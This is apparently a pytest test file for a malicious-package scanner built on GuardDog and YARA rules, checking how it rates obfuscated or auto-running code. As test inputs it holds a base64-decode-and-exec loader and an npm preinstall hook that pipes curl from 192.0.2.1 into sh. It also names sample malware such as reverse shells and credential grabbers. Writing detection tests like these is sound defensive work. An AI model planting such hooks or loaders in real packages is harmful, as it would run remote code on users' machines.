import importlib
import importlib.metadata
import subprocess
import sys
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from package_gate.errors import ScannerError
from package_gate.models import Finding, Kind, Location, Severity
from package_gate.policy import Limits
from package_gate.scanners import guarddog_rules
from package_gate.scanners.guarddog import GuardDog
from package_gate.scanners.guarddog_rules import RuleSet
from package_gate.scanners.pool import ScannerPool, ScannerSpec
from tests.fakes.malware_samples import PAYLOAD, SAMPLES
from tests.scanners.packages import package

ROOT = Path(__file__).parent.parent.parent
SDIST = "sample-1.0.tar.gz"
EXEC_BASE64 = f'import base64\nexec(base64.b64decode("{PAYLOAD}"))\n'
IN_A_FUNCTION = f'import base64\n\n\ndef load():\n    exec(base64.b64decode("{PAYLOAD}"))\n'
NOT_SEEN_BY_GUARDDOG = {
    *("init-runs-a-decrypted-payload", "reverse-shell", "environment-sent-to-a-webhook"),
    *("chat-token-grabber", "browser-passwords", "ssh-keys-and-cloud-credentials"),
    *("dns-exfiltration", "keylogger", "clipboard-wallet-swap", "worm-publishes-itself"),
    "screenshots",
}
"""Samples that GuardDog's own rules let pass, or rate below "high risk"."""


@pytest.fixture(scope="module")
def guarddog() -> GuardDog:
    return GuardDog(Limits())


def scan(
    guarddog: GuardDog,
    folder: Path,
    files: Mapping[str, str | bytes],
    filename: str = "sample-1.0-py3-none-any.whl",
) -> dict[str, Finding]:
    found = list(guarddog.scan(package(folder, files, filename=filename)))
    assert len({each.rule for each in found}) == len(found)
    return {each.rule: each for each in found}


def worst(found: Mapping[str, Finding]) -> Severity | None:
    return max((each.severity for each in found.values() if each.severity), default=None)


@pytest.mark.parametrize("name", sorted(SAMPLES.keys() - NOT_SEEN_BY_GUARDDOG))
def test_a_package_that_looks_like_malware_is_high(
    guarddog: GuardDog, tmp_path: Path, name: str
) -> None:
    found = scan(guarddog, tmp_path, SAMPLES[name], SDIST)

    assert worst(found) is Severity.HIGH


@pytest.mark.parametrize("name", sorted(NOT_SEEN_BY_GUARDDOG))
def test_what_guarddog_does_not_see_is_known(guarddog: GuardDog, tmp_path: Path, name: str) -> None:
    found = scan(guarddog, tmp_path, SAMPLES[name], SDIST)

    assert (worst(found) or Severity.INFO) < Severity.HIGH


def test_a_finding_says_what_and_where_and_that_it_runs(guarddog: GuardDog, tmp_path: Path) -> None:
    found = scan(guarddog, tmp_path, {"sample/__init__.py": EXEC_BASE64})

    rule = found["threat-runtime-obfuscation-base64exec"]
    assert (rule.kind, rule.severity, rule.artifact) == (
        Kind.MALWARE,
        Severity.HIGH,
        "sample-1.0-py3-none-any.whl",
    )
    assert Location("sample/__init__.py", 2) in rule.locations
    assert rule.message == (
        "Detects base64 decoding followed by code execution: base64.b64decode(, exec(. "
        "This runs by itself, on installation, on import or when Python starts."
    )
    score = found["guarddog-score"]
    assert score.severity is Severity.MEDIUM
    assert score.message == "GuardDog's risk score is 7.3 of 10 (high risk)."


def test_the_same_in_a_function_that_nobody_calls_is_medium(
    guarddog: GuardDog, tmp_path: Path
) -> None:
    found = scan(guarddog, tmp_path, {"sample/__init__.py": IN_A_FUNCTION})

    assert worst(found) is Severity.MEDIUM
    assert "runs by itself" not in found["threat-runtime-obfuscation-base64exec"].message


@pytest.mark.parametrize(
    ("files", "filename", "severity"),
    [
        ({"sample.py": EXEC_BASE64}, "sample-1.0-py3-none-any.whl", Severity.HIGH),
        ({"sample.py": EXEC_BASE64}, SDIST, Severity.MEDIUM),
        ({"sample.pth": EXEC_BASE64}, "sample-1.0-py3-none-any.whl", Severity.HIGH),
        ({"sample-1.0/setup.py": IN_A_FUNCTION}, SDIST, Severity.HIGH),
        ({"sample/__init__.py": IN_A_FUNCTION + "\n\nload()\n"}, SDIST, Severity.HIGH),
        ({"sample/__init__.py": "", "sample/a.py": EXEC_BASE64}, SDIST, Severity.MEDIUM),
        (
            {
                "sample/__init__.py": "",
                "sample/a.py": SAMPLES["init-runs-marshalled-code"]["sample/__init__.py"],
            },
            SDIST,
            Severity.HIGH,
        ),
        ({"tools/a.js": "eval(atob('" + "QUJD" * 60 + "'))\n"}, SDIST, None),
        ({"setup.py": "import subprocess\nfrom setuptools import setup\n"}, SDIST, None),
    ],
)
def test_what_runs_by_itself_is_what_counts(
    guarddog: GuardDog,
    tmp_path: Path,
    files: Mapping[str, str],
    filename: str,
    severity: Severity | None,
) -> None:
    found = worst(scan(guarddog, tmp_path, files, filename))

    if severity is None:
        assert found is None or found < Severity.HIGH
    else:
        assert found is severity


def test_decoys_do_not_use_a_rules_count_up(guarddog: GuardDog, tmp_path: Path) -> None:
    decoys = {f"aaa{number}.py": f"# {number}\n{IN_A_FUNCTION}" for number in range(10)}

    found = scan(guarddog, tmp_path, {**decoys, "sample/__init__.py": EXEC_BASE64})

    rule = found["threat-runtime-obfuscation-base64exec"]
    assert rule.severity is Severity.HIGH
    assert rule.locations[0].path == "sample/__init__.py"


@pytest.mark.parametrize(
    "opening", ['quotes = \'"""\'\n', "# a comment\r", "first = 1  # '''\n", "'''\n'''; \"'''\"\n"]
)
def test_quotes_and_line_ends_hide_nothing(
    guarddog: GuardDog, tmp_path: Path, opening: str
) -> None:
    found = scan(guarddog, tmp_path, {"sample/__init__.py": opening + EXEC_BASE64})

    assert worst(found) is Severity.HIGH


def test_a_comment_or_a_docstring_is_no_threat(guarddog: GuardDog, tmp_path: Path) -> None:
    comment = f'"""Never do this:\n\n{EXEC_BASE64}"""\n' + f"# {EXEC_BASE64.splitlines()[1]}\n"

    assert scan(guarddog, tmp_path, {"sample/__init__.py": comment}) == {}


def test_an_honest_package_has_no_findings(guarddog: GuardDog, tmp_path: Path) -> None:
    source = (
        "from pathlib import Path\n\n\ndef read(name: str) -> str:\n    return open(name).read()\n"
    )

    assert scan(guarddog, tmp_path, {"sample/__init__.py": source, "data.txt": EXEC_BASE64}) == {}


def test_a_source_file_that_is_too_large_to_scan_is_a_high_finding(
    guarddog: GuardDog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(guarddog_rules, "MAX_FILE_BYTES", 1000)
    files = {"sample/__init__.py": "#" * 1001, "big.bin": "x" * 1001}

    found = scan(guarddog, tmp_path, files)

    assert found["file-too-large"].severity is Severity.HIGH
    assert [each.path for each in found["file-too-large"].locations] == ["sample/__init__.py"]


def test_names_that_are_no_text_or_hold_escapes_are_printable(
    guarddog: GuardDog, tmp_path: Path
) -> None:
    target = package(tmp_path)
    folder = Path(target.artifacts[0].tree, "\x1b[2J")
    folder.mkdir()
    (folder / b"a\xff".decode("utf-8", "surrogateescape")).with_suffix(".py").write_text(
        EXEC_BASE64
    )

    (place,) = next(
        each.locations for each in guarddog.scan(target) if each.rule.startswith("threat-")
    )

    assert place.path == "\\x1b[2J/a\\udcff.py"


class _Rules:
    """Stands for compiled rules."""

    def __init__(self, *, fails: bool) -> None:
        self._fails = fails

    def match(self, *, warnings_callback: Callable[..., object], **_: object) -> list[object]:
        if self._fails:
            raise importlib.import_module("yara").Error("internal error: 30")
        warnings_callback(1, "more than 1,000,000 matches")
        return []


@pytest.mark.parametrize(
    ("fails", "message"),
    [
        (True, r"YARA failed on a\.py: internal error: 30"),
        (False, r"YARA gave up on a\.py: too many matches"),
    ],
)
def test_a_rule_that_fails_or_gives_up_is_an_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fails: bool, message: str
) -> None:
    guarddog = GuardDog(Limits())
    monkeypatch.setattr(guarddog._rules, "_others", _Rules(fails=fails))

    with pytest.raises(ScannerError, match=message):
        scan(guarddog, tmp_path, {"a.py": "x = 1\n"})


def test_folders_named_like_files_and_links_to_nowhere_are_passed_over(
    guarddog: GuardDog, tmp_path: Path
) -> None:
    target = package(tmp_path, {"folder.py/a.txt": "x"})
    Path(target.artifacts[0].tree, "b.py").symlink_to("nowhere")

    assert list(guarddog.scan(target)) == []


@pytest.mark.parametrize(
    ("rule", "content"),
    [
        ("threat-runtime-obfuscation-unicode", "x = 'p\u0430ypal'\n"),
        ("threat-runtime-obfuscation-unicode", "x = 'Ωmega'\n"),
        ("threat-runtime-obfuscation-unicode", "x = 'megaΩ'\n"),
        ("threat-runtime-obfuscation-unicode", "x = 'a\U0001d41ab'\n"),
        ("threat-runtime-obfuscation-unicode", "x = 'a\u200bb'\n"),
        ("threat-runtime-obfuscation", ("'" + "QUJD" * 40 + "'\n") * 3),
        ("threat-runtime-obfuscation", ("'" + "\\x41" + "\\41" * 20 + "'\n") * 3),
        ("threat-runtime-obfuscation", "a_0x12ab = 1\n" * 10 + "'a' + 'b'\n" * 20),
        ("threat-runtime-obfuscation", ("'" + "\\u0041" * 12 + "'\n") * 2 + "'a' + 'b'\n" * 5),
        ("threat-runtime-obfuscation-hidden-code", "GLOBAL ['r'] = require;\n"),
        ("threat-runtime-obfuscation-hidden-code", "x" + " " * 400 + "y; eval ('1')\n"),
    ],
)
def test_no_shortcut_passes_over_what_its_rule_matches(rule: str, content: str) -> None:
    rules = RuleSet()
    assert rule in rules._slow, "the rule has changed: derive its shortcut anew"
    can_match, compiled = rules._slow[rule]

    assert compiled.match(data=content.encode())
    assert can_match(content.encode())


def test_a_rule_that_has_changed_has_no_shortcut(monkeypatch: pytest.MonkeyPatch) -> None:
    name = "threat-runtime-obfuscation-unicode"
    shortcut = guarddog_rules._Shortcut("0" * 64, lambda content: False)
    monkeypatch.setitem(guarddog_rules._SHORTCUTS, name, shortcut)
    rules = RuleSet()

    assert name not in rules._slow
    assert rules.scan_code("a.py", "x = 'p\u0430ypal'\n".encode(), 60).keys() == {name}


TREES: list[Mapping[str, str]] = [
    {f"{name}/{path}": text for name, files in SAMPLES.items() for path, text in files.items()},
    {
        # Counts that end in the middle, places twice over, folders in an order of their own.
        "b/z.py": EXEC_BASE64 * 3 + "import os\nos.system('ls')\n" * 20,
        "b/a.py": EXEC_BASE64 + "open('a')\n" * 5,
        "B.py": EXEC_BASE64,
        "a.py": IN_A_FUNCTION + "\n# " + EXEC_BASE64,
        "a b/c:d.py": SAMPLES["setup-sends-host-facts"]["setup.py"],
        "data.txt": EXEC_BASE64,
        "empty.py": "",
        "setup.cfg": "exec(",
    },
    {
        "min.js": "x='" + "a" * 3000 + "';eval(atob('" + "QUJD" * 90 + "'));" * 4 + "\n/* eval(",
        "long.py": "x = [" + "'" + "QUJD" * 60 + "', " * 50 + "]\r\n\r\n" + EXEC_BASE64,
        "kýrillic.py": "p\u0430ypal = 1\n'''\n" + EXEC_BASE64 + "'''\n" + EXEC_BASE64,
        "sample.pth": EXEC_BASE64,
        "package.json": '{"scripts": {"preinstall": "curl http://192.0.2.1/a | sh"}}',
        "sub/package.json": '{"scripts": {"preinstall": "curl http://192.0.2.1/a | sh"}}',
    },
]

_GUARDDOG_ITSELF = """
import json, sys, types
from pathlib import Path

# Its metadata rules would fetch lists of popular packages.
metadata = types.ModuleType("guarddog.analyzer.metadata")
metadata.get_metadata_detectors = lambda ecosystem: {}
from package_gate.scanners.guarddog_rules import RuleSet
from package_gate.scanners.guarddog import GuardDog
from package_gate.policy import Limits
ours = GuardDog(Limits())
sys.modules["guarddog.analyzer.metadata"] = metadata
from guarddog.analyzer.analyzer import Analyzer
for tree in sys.argv[1:]:
    analyzer = Analyzer()
    theirs = analyzer.analyze_sourcecode(tree)
    assert not theirs["errors"], theirs["errors"]
    expected = {
        rule: [(hit["location"], hit["code"], hit["match"]) for hit in hits]
        for rule, hits in theirs["results"].items() if hits
    }
    scan = ours._rules.scan(Path(tree), 60)
    got = {
        rule: [(f"{hit.path}:{hit.line}", hit.code, hit.matched) for hit in hits]
        for rule, hits in scan.hits.items() if hits
    }
    assert list(got) == list(expected), (list(got), list(expected))
    assert got == expected
    score = ours._engine.calculate_risk_score(ours._risks(scan.hits)).score
    assert score == analyzer.calculate_package_risk_score(theirs)["score"]
    print(len(got), score)
"""


def test_rules_and_score_are_those_of_guarddog_itself(tmp_path: Path) -> None:
    trees = [
        package(tmp_path / str(number), files).artifacts[0].tree
        for number, files in enumerate(TREES)
    ]

    outcome = subprocess.run(
        [sys.executable, "-c", _GUARDDOG_ITSELF, *trees],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )

    assert outcome.returncode == 0, outcome.stderr
    assert [int(line.split()[0]) > 3 for line in outcome.stdout.splitlines()] == [True] * 3


def test_guarddog_s_downloads_and_metadata_rules_are_not_even_imported() -> None:
    code = (
        "import sys; from package_gate.scanners.guarddog import GuardDog;"
        "from package_gate.policy import Limits; GuardDog(Limits());"
        "print([name for name in sys.modules if name.startswith(('guarddog', 'requests'))])"
    )
    outcome = subprocess.run(
        [sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=True
    )

    assert sorted(eval(outcome.stdout)) == [
        "guarddog",
        "guarddog.analyzer",
        "guarddog.analyzer.risk_engine",
        "guarddog.analyzer.sourcecode",
        "guarddog.ecosystems",
        "guarddog.utils",
        "guarddog.utils.config",
    ]


def test_in_its_worker_nothing_planted_changes_the_result(
    guarddog: GuardDog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    planted = {
        "guarddog.py": "raise SystemExit",
        "yara.py": "raise SystemExit",
        "sitecustomize.py": "raise SystemExit",
        ".guarddog.yaml": "exclude: ['*']",
    }
    files = {"sample/__init__.py": EXEC_BASE64, **planted}
    plain = list(guarddog.scan(package(tmp_path / "plain", files)))
    for name, content in planted.items():
        (tmp_path / name).write_text(content)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("GUARDDOG_YARA_EXT_EXCLUDE", "py")
    monkeypatch.setenv("GUARDDOG_PARALLELISM", "no number")

    with ScannerPool([ScannerSpec("guarddog")], Limits(), tmp_path) as pool:
        assert pool.scan("guarddog", package(tmp_path / "again", files)) == plain
        assert pool.info("guarddog").version == importlib.metadata.version("guarddog")


def test_the_yara_rules_are_compiled_once(
    guarddog: GuardDog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(guarddog._rules._yara, "compile", None)

    assert scan(guarddog, tmp_path, {"sample/__init__.py": EXEC_BASE64})
